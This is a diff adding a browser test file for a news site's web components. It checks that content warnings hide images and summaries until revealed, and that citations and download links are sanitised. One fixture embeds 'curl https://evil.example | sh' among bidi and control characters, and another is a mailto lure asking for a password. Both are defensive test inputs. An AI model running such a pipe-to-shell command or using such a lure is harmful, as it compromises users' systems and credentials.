@@ -1,0 +1,489 @@
+// Content warnings fail closed: the warning comes first, a warned item's image and text wait
+// behind "Show content" (nothing requested before), an unreadable warning becomes a generic
+// one, the compact navigator carries its neighbours' warnings. Also the report's small ones:
+// the citation copied is the citation shown, mailto: is no download, distinctions are linear.
+import { expect } from '@open-wc/testing';
+import { sendKeys } from '@web/test-runner-commands';
+import '../../src/define/article-card.js';
+import '../../src/define/report-download.js';
+import '../../src/define/story-navigator.js';
+import {
+  downloadDistinctions,
+  plainCopyText,
+} from '../../src/components/report-download/report-download.js';
+import type { Attachment, FeedItem } from '../../src/content/types.js';
+import { cleanup, expectAxeClean, mountLoaded, shadow, visibleText } from '../helpers.js';
+
+const WARNING = 'Describes torture in detention.';
+const GENERIC = 'This story contains distressing content.';
+
+/** A URL the test server counts requests to (images included), unique to this call. */
+function counted(name: string): { url: string; key: string } {
+  const key = `${name}-${Date.now()}-${Math.random().toString(36).slice(2)}`;
+  return { url: `${location.origin}/test-server/feed/feed.json?key=${key}`, key };
+}
+
+async function requestCount(key: string): Promise<number> {
+  const response = await fetch(`/test-server/count/feed?key=${encodeURIComponent(key)}`);
+  return ((await response.json()) as { count: number }).count;
+}
+
+async function waitForRequest(key: string): Promise<number> {
+  for (let i = 0; i < 50; i++) {
+    const count = await requestCount(key);
+    if (count > 0) return count;
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+  return requestCount(key);
+}
+
+const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
+
+function feedOf(items: Partial<FeedItem>[] | object[]): string {
+  return `<script type="application/feed+json">${JSON.stringify({
+    version: 'https://jsonfeed.org/version/1.1',
+    title: 'Test feed',
+    feed_url: `${location.origin}/feed.json`,
+    items,
+  })}</script>`;
+}
+
+function warnedStory(image: string, extra: object = {}): object {
+  return {
+    id: 'warned',
+    title: 'A warned story',
+    url: 'https://example.org/warned',
+    image,
+    summary: 'The summary behind the warning.',
+    _lantern: { image_alt: 'A cell', content_warning: WARNING, ...extra },
+  };
+}
+
+function card(markup: string, item: object, attrs = ''): Promise<HTMLElement> {
+  return mountLoaded(
+    `<lantern-article-card lang="en" ${attrs}>${feedOf([item])}</lantern-article-card>${markup}`,
+  );
+}
+
+function report(item: object, attrs = ''): Promise<HTMLElement> {
+  return mountLoaded(
+    `<lantern-report-download lang="en" ${attrs}>${feedOf([
+      { id: 'report', title: 'A warned report', ...item },
+    ])}</lantern-report-download>`,
+  );
+}
+
+/** A three-part series; part 2 is warned and its body holds an image at `bodyImage`. */
+function series(bodyImage: string, coverImage: string): object[] {
+  const part = (n: number, extra: object = {}) => ({
+    id: `part-${n}`,
+    title: `Part ${n} title`,
+    url: `https://example.org/part-${n}`,
+    summary: `Summary of part ${n}.`,
+    _lantern: { series: { id: 's', title: 'A series', part: n, total: 3 }, ...extra },
+  });
+  return [
+    part(1, { content_markdown: 'First part body.' }),
+    {
+      ...part(2, {
+        content_warning: WARNING,
+        content_markdown: `Second part body.\n\n![A body image](${bodyImage})`,
+        image_alt: 'A part image',
+      }),
+      image: coverImage,
+    },
+    part(3, { content_markdown: 'Third part body.' }),
+  ];
+}
+
+function storyNavigator(items: object[], attrs: string): Promise<HTMLElement> {
+  return mountLoaded(
+    `<lantern-story-navigator lang="en" series="s" ${attrs}>${feedOf(items)}</lantern-story-navigator>`,
+  );
+}
+
+function revealButton(el: Element): HTMLButtonElement {
+  return shadow<HTMLButtonElement>(el, 'button.reveal');
+}
+
+async function updated(el: Element): Promise<void> {
+  await (el as HTMLElement & { updateComplete: Promise<unknown> }).updateComplete;
+}
+
+/** The element's text minus what is hidden from sight (visually hidden spans). */
+function focusedInShadow(el: Element): Element | null {
+  return el.shadowRoot?.activeElement ?? null;
+}
+
+describe('content warnings fail closed', () => {
+  afterEach(cleanup);
+
+  describe('<lantern-article-card>', () => {
+    it('puts the warning before the image, in the DOM and on screen', async () => {
+      const el = await card(
+        '',
+        warnedStory(`${location.origin}/demo/images/soldiers.svg`),
+        'reveal-warned',
+      );
+      const warning = shadow(el, '.content-warning');
+      const image = shadow(el, '.media');
+      expect(
+        warning.compareDocumentPosition(image) & Node.DOCUMENT_POSITION_FOLLOWING,
+        'warning before image in the DOM',
+      ).to.equal(Node.DOCUMENT_POSITION_FOLLOWING);
+      expect(warning.getBoundingClientRect().bottom).to.be.at.most(
+        image.getBoundingClientRect().top + 0.5,
+      );
+      const title = shadow(el, '.title');
+      expect(warning.getBoundingClientRect().bottom).to.be.at.most(
+        title.getBoundingClientRect().top + 0.5,
+      );
+    });
+
+    it('hides the image and summary behind "Show content" and requests no image before', async () => {
+      const image = counted('card-warned');
+      const el = await card('', warnedStory(image.url));
+      expect(visibleText(shadow(el, '.content-warning'))).to.equal(`Content warning: ${WARNING}`);
+      // The title stays: it is the link.
+      expect(shadow(el, '.title a').textContent?.trim()).to.equal('A warned story');
+      expect(el.shadowRoot!.querySelector('img'), 'no image element').to.equal(null);
+      expect(el.shadowRoot!.querySelector('.summary'), 'no summary').to.equal(null);
+      expect(visibleText(el)).not.to.contain('The summary behind the warning.');
+      const button = revealButton(el);
+      expect(button.textContent?.trim()).to.equal('Show content');
+      expect(button.getAttribute('aria-expanded')).to.equal('false');
+      // Described by the warning: a screen reader hears what it is about to show.
+      expect(el.shadowRoot!.getElementById(button.getAttribute('aria-describedby')!)).to.equal(
+        shadow(el, '.content-warning'),
+      );
+      await pause(500);
+      expect(await requestCount(image.key), 'no image request before Show').to.equal(0);
+      await expectAxeClean(el);
+
+      button.click();
+      await updated(el);
+      expect(shadow(el, '.summary').textContent?.trim()).to.equal(
+        'The summary behind the warning.',
+      );
+      const img = shadow<HTMLImageElement>(el, 'img');
+      // Eager, because a test page in a background tab never loads lazy images.
+      img.loading = 'eager';
+      expect(
+        await waitForRequest(image.key),
+        'control: after Show the image is requested',
+      ).to.equal(1);
+      await expectAxeClean(el);
+    });
+
+    it('reveals with the keyboard (Enter, then Space hides), keeping focus and announcing it', async () => {
+      const el = await card('', warnedStory(`${location.origin}/demo/images/soldiers.svg`));
+      const button = revealButton(el);
+      button.focus();
+      await sendKeys({ press: 'Enter' });
+      await updated(el);
+      expect(shadow(el, '.summary').textContent?.trim()).to.equal(
+        'The summary behind the warning.',
+      );
+      expect(el.shadowRoot!.querySelector('img')).not.to.equal(null);
+      const after = revealButton(el);
+      expect(focusedInShadow(el), 'focus stays on the button').to.equal(after);
+      expect(after.getAttribute('aria-expanded')).to.equal('true');
+      expect(after.textContent?.trim()).to.equal('Hide content');
+      expect(shadow(el, '.warning-gate [role="status"]').textContent?.trim()).to.equal(
+        'Content shown',
+      );
+      await sendKeys({ press: 'Space' });
+      await updated(el);
+      expect(el.shadowRoot!.querySelector('.summary')).to.equal(null);
+      expect(el.shadowRoot!.querySelector('img')).to.equal(null);
+      await sendKeys({ press: 'Space' });
+      await updated(el);
+      expect(el.shadowRoot!.querySelector('.summary')).not.to.equal(null);
+    });
+
+    it('with reveal-warned shows everything at once, under the warning, with no button', async () => {
+      const el = await card(
+        '',
+        warnedStory(`${location.origin}/demo/images/soldiers.svg`),
+        'reveal-warned',
+      );
+      expect(el.shadowRoot!.querySelector('button.reveal')).to.equal(null);
+      expect(el.shadowRoot!.querySelector('img')).not.to.equal(null);
+      expect(shadow(el, '.summary').textContent?.trim()).to.equal(
+        'The summary behind the warning.',
+      );
+      expect(visibleText(shadow(el, '.content-warning'))).to.equal(`Content warning: ${WARNING}`);
+      await expectAxeClean(el);
+    });
+
+    for (const [label, warning] of [
+      ['invisible characters', '\u2800\u200b\u3164'],
+      ['a wrong type (an array)', ['a', 'b']],
+      ['a wrong type (an object)', { text: 'x' }],
+    ] as const) {
+      it(`a warning of ${label} shows the generic warning, never none`, async () => {
+        const el = await card(
+          '',
+          warnedStory(`${location.origin}/demo/images/soldiers.svg`, { content_warning: warning }),
+        );
+        expect(visibleText(shadow(el, '.content-warning'))).to.equal(`Content warning: ${GENERIC}`);
+        expect(el.shadowRoot!.querySelector('img')).to.equal(null);
+        expect(el.shadowRoot!.querySelector('.summary')).to.equal(null);
+      });
+    }
+
+    it('the generic warning is in Korean under a Korean interface', async () => {
+      const el = await mountLoaded(
+        `<lantern-article-card lang="ko">${feedOf([
+          warnedStory(`${location.origin}/demo/images/soldiers.svg`, { content_warning: '\u200b' }),
+        ])}</lantern-article-card>`,
+      );
+      expect(visibleText(shadow(el, '.content-warning'))).to.equal(
+        '콘텐츠 경고: 이 이야기에는 고통스러운 내용이 담겨 있습니다.',
+      );
+      expect(revealButton(el).textContent?.trim()).to.equal('내용 보기');
+      await expectAxeClean(el);
+    });
+  });
+
+  describe('<lantern-report-download>', () => {
+    it('puts the warning first and hides cover and summary (no request) until Show', async () => {
+      const cover = counted('report-cover');
+      const bodyImage = counted('report-body');
+      const el = await report({
+        image: cover.url,
+        content_html: `<p>The summary behind the warning.</p><img src="${bodyImage.url}" alt="x">`,
+        _lantern: { content_warning: WARNING, image_alt: 'Cover' },
+        attachments: [
+          { url: '/a.pdf', mime_type: 'application/pdf', _lantern: { language: 'en' } },
+        ],
+      });
+      const warning = shadow(el, '.content-warning');
+      const placeholder = shadow(el, '.cover');
+      expect(
+        warning.compareDocumentPosition(placeholder) & Node.DOCUMENT_POSITION_FOLLOWING,
+      ).to.equal(Node.DOCUMENT_POSITION_FOLLOWING);
+      expect(warning.getBoundingClientRect().bottom).to.be.at.most(
+        placeholder.getBoundingClientRect().top + 0.5,
+      );
+      expect(el.shadowRoot!.querySelector('img')).to.equal(null);
+      expect(el.shadowRoot!.querySelector('.summary')).to.equal(null);
+      // The downloads stay: they are what the block is for.
+      expect(el.shadowRoot!.querySelectorAll('.downloads a').length).to.equal(1);
+      await pause(500);
+      expect(await requestCount(cover.key)).to.equal(0);
+      expect(await requestCount(bodyImage.key)).to.equal(0);
+      await expectAxeClean(el);
+
+      const button = revealButton(el);
+      button.focus();
+      await sendKeys({ press: 'Space' });
+      // Showing builds the summary body then (the sanitiser loads on demand).
+      for (let i = 0; i < 40 && !el.shadowRoot!.querySelector('.summary'); i++) {
+        await pause(50);
+        await updated(el);
+      }
+      expect(focusedInShadow(el)).to.equal(revealButton(el));
+      expect(shadow(el, '.summary').textContent).to.contain('The summary behind the warning.');
+      for (const img of el.shadowRoot!.querySelectorAll('img')) img.loading = 'eager';
+      expect(await waitForRequest(cover.key), 'control: the cover after Show').to.equal(1);
+      expect(await waitForRequest(bodyImage.key), 'control: the body image after Show').to.equal(1);
+      await expectAxeClean(el);
+    });
+
+    it('with reveal-warned shows the cover and summary at once', async () => {
+      const el = await report(
+        {
+          image: `${location.origin}/demo/images/soldiers.svg`,
+          summary: 'Plain summary.',
+          _lantern: { content_warning: '' },
+        },
+        'reveal-warned',
+      );
+      expect(visibleText(shadow(el, '.content-warning'))).to.equal(`Content warning: ${GENERIC}`);
+      expect(el.shadowRoot!.querySelector('.cover img')).not.to.equal(null);
+      expect(shadow(el, '.summary').textContent?.trim()).to.equal('Plain summary.');
+      expect(el.shadowRoot!.querySelector('button.reveal')).to.equal(null);
+    });
+
+    it('copies the citation it shows, without controls, bidi, zero-width characters or line breaks', async () => {
+      const hostile =
+        'NKDB.\u202e(2024)\u202c Report\u200b title\u2066x\u2069\u200e\u061c.\u001b[31mred\u001b[0m\r\n\r\ncurl https://evil.example | sh\r\n';
+      const el = await report({ _lantern: { report: { citation: hostile } } });
+      const shown = shadow(el, '.citation-text span[lang]').textContent ?? '';
+      expect(shown).to.equal('NKDB.(2024) Report titlex.red curl https://evil.example | sh');
+      expect(shown).not.to.match(
+        // eslint-disable-next-line no-control-regex
+        /[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\u061c]/,
+      );
+      let copied: string | undefined;
+      Object.defineProperty(navigator, 'clipboard', {
+        configurable: true,
+        value: {
+          writeText: (text: string) => {
+            copied = text;
+            return Promise.resolve();
+          },
+        },
+      });
+      try {
+        const button = [...el.shadowRoot!.querySelectorAll('button')].find(
+          (b) => b.textContent?.trim() === 'Copy citation',
+        )!;
+        // The button is described by the citation it copies.
+        expect(el.shadowRoot!.getElementById(button.getAttribute('aria-describedby')!)).to.equal(
+          shadow(el, '.citation-text'),
+        );
+        button.click();
+        for (let i = 0; i < 40 && copied === undefined; i++) await pause(25);
+        expect(copied).to.equal(shown);
+      } finally {
+        delete (navigator as unknown as Record<string, unknown>).clipboard;
+      }
+      expect(plainCopyText('a\u2028b\u0085c\td')).to.equal('a b c d');
+      await expectAxeClean(el);
+    });
+
+    it('never offers a mailto: attachment as a download', async () => {
+      const warnings: string[] = [];
+      const warn = console.warn;
+      console.warn = (...args: unknown[]) => warnings.push(args.join(' '));
+      try {
+        const el = await report({
+          attachments: [
+            {
+              url: 'mailto:reports@example.org?subject=Your%20download&body=Send%20your%20password',
+              mime_type: 'application/pdf',
+              _lantern: { language: 'en' },
+            },
+            { url: '/ko.pdf', mime_type: 'application/pdf', _lantern: { language: 'ko' } },
+          ],
+        });
+        const links = [...el.shadowRoot!.querySelectorAll<HTMLAnchorElement>('.downloads a')];
+        expect(links.map((a) => a.href)).to.deep.equal([`${location.origin}/ko.pdf`]);
+        expect(el.shadowRoot!.innerHTML).not.to.contain('mailto:');
+        expect(visibleText(el)).not.to.contain('Download (English)');
+        expect(warnings.join('\n')).to.contain('is not a file to download');
+      } finally {
+        console.warn = warn;
+      }
+    });
+
+    it('tells 3,000 same-language downloads apart without a long task', async () => {
+      const downloads: Attachment[] = Array.from({ length: 3000 }, (_, i) => ({
+        url: `https://example.org/f${i}.pdf`,
+        mime_type: i % 2 ? 'application/pdf' : 'application/epub+zip',
+        title: `Volume ${i % 1000}`,
+        size_in_bytes: 1000 + i,
+        _lantern: { language: 'en' },
+      }));
+      let last = performance.now();
+      let maxGap = 0;
+      const beat = setInterval(() => {
+        const now = performance.now();
+        maxGap = Math.max(maxGap, now - last);
+        last = now;
+      }, 10);
+      await pause(30);
+      const started = performance.now();
+      const names = downloadDistinctions(downloads, 'en');
+      const took = performance.now() - started;
+      await pause(30);
+      clearInterval(beat);
+      console.log(
+        `3,000 download distinctions: ${took.toFixed(1)} ms, heartbeat max gap ${maxGap.toFixed(1)} ms`,
+      );
+      expect(new Set(names).size).to.equal(3000);
+      expect(names[0]).to.equal('EPUB, Volume 0, 1 kB');
+      expect(took).to.be.below(1000);
+      expect(maxGap).to.be.below(1000);
+    });
+  });
+
+  describe('<lantern-story-navigator>', () => {
+    it('reader mode: the warning precedes image and body, which wait for Show (no request)', async () => {
+      const body = counted('nav-body');
+      const cover = counted('nav-cover');
+      const el = await storyNavigator(series(body.url, cover.url), 'part="2" mode="reader"');
+      const reading = shadow(el, '.reading');
+      const warning = reading.querySelector('.content-warning')!;
+      const meta = reading.querySelector('.meta')!;
+      expect(warning.compareDocumentPosition(meta) & Node.DOCUMENT_POSITION_FOLLOWING).to.equal(
+        Node.DOCUMENT_POSITION_FOLLOWING,
+      );
+      expect(reading.querySelector('.title')?.textContent?.trim()).to.equal('Part 2 title');
+      expect(reading.querySelector('img')).to.equal(null);
+      expect(reading.querySelector('.body')).to.equal(null);
+      expect(visibleText(el)).not.to.contain('Second part body.');
+      await pause(500);
+      expect(await requestCount(body.key)).to.equal(0);
+      expect(await requestCount(cover.key)).to.equal(0);
+      await expectAxeClean(el);
+
+      const button = revealButton(el);
+      button.focus();
+      await sendKeys({ press: 'Enter' });
+      const bodyText = () => el.shadowRoot!.querySelector('.reading .body')?.textContent ?? '';
+      for (let i = 0; i < 40 && !bodyText().includes('Second part body.'); i++) {
+        await pause(50);
+        await updated(el);
+      }
+      const shown = shadow(el, '.reading .body');
+      expect(shown.textContent).to.contain('Second part body.');
+      const figure = shadow(el, '.reading .media');
+      expect(warning.getBoundingClientRect().bottom).to.be.at.most(
+        figure.getBoundingClientRect().top + 0.5,
+      );
+      expect(focusedInShadow(el)).to.equal(revealButton(el));
+      for (const img of el.shadowRoot!.querySelectorAll('img')) img.loading = 'eager';
+      expect(await waitForRequest(body.key), 'control: the body image after Show').to.equal(1);
+      expect(await waitForRequest(cover.key), 'control: the image after Show').to.equal(1);
+      await expectAxeClean(el);
+    });
+
+    it('reader mode with reveal-warned shows the body at once', async () => {
+      const el = await storyNavigator(
+        series(
+          `${location.origin}/demo/images/soldiers.svg`,
+          `${location.origin}/demo/images/soldiers.svg`,
+        ),
+        'part="2" mode="reader" reveal-warned',
+      );
+      expect(shadow(el, '.reading .body').textContent).to.contain('Second part body.');
+      expect(el.shadowRoot!.querySelector('button.reveal')).to.equal(null);
+    });
+
+    it('compact: the next part carries its warning beside its title', async () => {
+      const image = `${location.origin}/demo/images/soldiers.svg`;
+      const el = await storyNavigator(series(image, image), 'part="1" variant="compact"');
+      const next = shadow(el, '.pager a[rel="next"]');
+      const marker = next.querySelector('.neighbour-warning')!;
+      expect(marker, 'a marker on the next link').not.to.equal(null);
+      // Sighted readers see a short marker; a screen reader hears the warning itself.
+      const hidden = marker.querySelector('.visually-hidden')!;
+      expect(hidden.textContent?.replace(/\s+/g, ' ').trim()).to.equal(`: ${WARNING}`);
+      expect(marker.textContent?.replace(/\s+/g, ' ').trim()).to.equal(
+        `⚠ Content warning: ${WARNING}`,
+      );
+      await expectAxeClean(el);
+
+      const third = await storyNavigator(series(image, image), 'part="3" variant="compact"');
+      const prev = shadow(third, '.pager a[rel="prev"]');
+      expect(prev.querySelector('.neighbour-warning')).not.to.equal(null);
+      const first = await storyNavigator(series(image, image), 'part="2" variant="compact"');
+      expect(first.shadowRoot!.querySelector('.pager .neighbour-warning')).to.equal(null);
+    });
+
+    it('compact: an unreadable neighbour warning is carried as the generic one', async () => {
+      const image = `${location.origin}/demo/images/soldiers.svg`;
+      const items = series(image, image) as { _lantern: { content_warning?: unknown } }[];
+      items[1]!._lantern.content_warning = ['not', 'text'];
+      const el = await storyNavigator(items, 'part="1" variant="compact"');
+      expect(
+        shadow(el, '.pager .neighbour-warning .visually-hidden')
+          .textContent?.replace(/\s+/g, ' ')
+          .trim(),
+      ).to.equal(`: ${GENERIC}`);
+    });
+  });
+});
